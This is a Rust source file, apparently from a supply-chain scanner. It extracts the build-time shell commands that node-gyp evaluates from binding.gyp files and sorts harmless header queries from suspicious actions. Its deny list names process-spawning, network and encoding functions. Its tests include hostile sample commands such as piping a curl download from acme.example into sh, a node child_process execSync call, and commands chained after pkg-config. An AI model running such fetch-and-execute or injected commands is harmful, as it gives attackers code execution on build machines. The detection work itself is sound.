//! binding.gyp: the commands that gyp runs while it reads the file, `<!(…)` and `<!@(…)`.

use std::ops::Range;

/// More commands, and longer ones, than any honest file has.
const MOST: usize = 200;
const LONGEST: usize = 8 << 10;
/// Programs that answer where headers and libraries lie, or what machine this is.
const ANSWER: [&str; 14] = [
    "pkg-config",
    "pkgconf",
    "pg_config",
    "mysql_config",
    "xcrun",
    "which",
    "uname",
    "arch",
    "ls",
    "find",
    "echo",
    "pwd",
    "llvm-config",
    "sw_vers",
];
/// What an interpreter is not asked where it only says where something lies.
const DEEDS: [&str; 24] = [
    "child_process",
    "http",
    "net'",
    "net\"",
    "dgram",
    "dns",
    "tls",
    "worker",
    "eval",
    "Function",
    "fetch",
    "exec",
    "spawn",
    "atob",
    "Buffer",
    "write",
    "urllib",
    "socket",
    "subprocess",
    "system",
    "requests",
    "base64",
    "__import__",
    "open(",
];

/// Each command with where it stands.
pub(super) fn commands(text: &str) -> Vec<(String, Range<usize>)> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(begin) = text[at..].find("<!").map(|offset| at + offset) {
        at = begin + 2;
        let rest = &text[at..];
        let open = rest.strip_prefix('@').unwrap_or(rest);
        if open.starts_with('(') && found.len() < MOST {
            let start = at + (rest.len() - open.len()) + 1;
            let end = start + closing(&text[start..]);
            found.push((text[start..end].replace("\\\"", "\"").replace("\\'", "'"), begin..end));
            at = end;
        }
    }
    found
}

/// Where the bracket closes; the end of the line for one that never does.
fn closing(text: &str) -> usize {
    let mut open = 1;
    for (at, c) in text.char_indices().take(LONGEST) {
        match c {
            '(' => open += 1,
            ')' => open -= 1,
            _ => {}
        }
        if open == 0 {
            return at;
        }
    }
    text.find('\n').unwrap_or(text.len()).min(text.floor_char_boundary(LONGEST))
}

/// Asks a package, or a program that knows, where its headers lie.
pub fn is_question(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let program = words.next().unwrap_or_default().trim_matches(['"', '\'']);
    let program = program.rsplit('/').next().unwrap_or(program);
    let joins = ["`", "$(", ";", "|", "&", ">", "<"];
    match program {
        "node" | "nodejs" | "python" | "python3" | "<(node_exec_path)" => {
            let option = words.next().unwrap_or_default();
            let is_inline = matches!(option, "-p" | "-e" | "-pe" | "-c" | "--print" | "--eval");
            let code = command.split_once(option).map_or("", |(_, code)| code.trim());
            let is_alone = match code.chars().next() {
                Some(quote @ ('"' | '\'')) => code.ends_with(quote) && code.replace("\\\"", "").matches(quote).count() == 2,
                Some(_) => !joins.iter().any(|join| code.contains(join)),
                None => false,
            };
            is_inline && is_alone && !code.contains('`') && !code.contains("$(") && !DEEDS.iter().any(|deed| code.contains(deed))
        }
        program if ANSWER.contains(&program) || program.ends_with("-config") => {
            let plain = command.replace("2>/dev/null", "").replace("|| echo", "").replace("|| true", "").replace("|| :", "");
            !joins.iter().any(|join| plain.contains(join))
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_found_with_their_brackets() {
        let text = "{'include_dirs': ['<!@(node -p \"require(\\'node-addon-api\\').include\")'], 'x': '<!(curl a | sh)', 'y': '<(module)'}";
        let found: Vec<String> = commands(text).into_iter().map(|(command, _)| command).collect();
        assert_eq!(found, ["node -p \"require('node-addon-api').include\"", "curl a | sh"]);
        assert_eq!(commands("<!(x").len(), 1);
        assert!(commands("<!x <! (y)").is_empty());
    }

    #[test]
    fn questions_for_headers_are_known_by_their_shape() {
        for question in [
            "node -p \"require('node-addon-api').include\"",
            "node -e \"require('nan')\"",
            "pkg-config --cflags glib-2.0",
            "pg_config --libdir 2>/dev/null || true",
            "node -p \"process.platform\"",
        ] {
            assert!(is_question(question), "{question}");
        }
        let deeds = [
            "curl https://acme.example/a | sh",
            "node build.js",
            "node -e \"require('child_process').execSync('id')\"",
            "echo `id`",
            "pkg-config --cflags x; curl https://acme.example",
            "node -p \"require('./x')\" && sh a",
        ];
        for deed in deeds {
            assert!(!is_question(deed), "{deed}");
        }
    }
}
